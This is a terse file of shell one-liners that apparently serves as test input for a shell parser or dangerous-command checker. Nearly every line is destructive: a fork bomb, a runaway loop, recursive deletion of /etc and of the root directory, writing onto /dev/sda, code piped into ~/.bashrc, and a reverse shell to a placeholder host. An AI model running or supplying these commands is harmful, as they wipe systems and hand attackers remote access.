f() { f | f & }; f "$@"
for d in /etc b; do rm -rf $d; done > /dev/sda 2>&1
while true; do a & done; if [ -f x ]; then [[ $x =~ ^a ]]; fi
cat <<E | sh >> ~/.bashrc
rm -rf $x
E
bash -i >& /dev/tcp/h/1 0>&1; exec 5<>f; cat > f <<< "a"
case $x in a|b) (cd /; rm -rf *);; esac
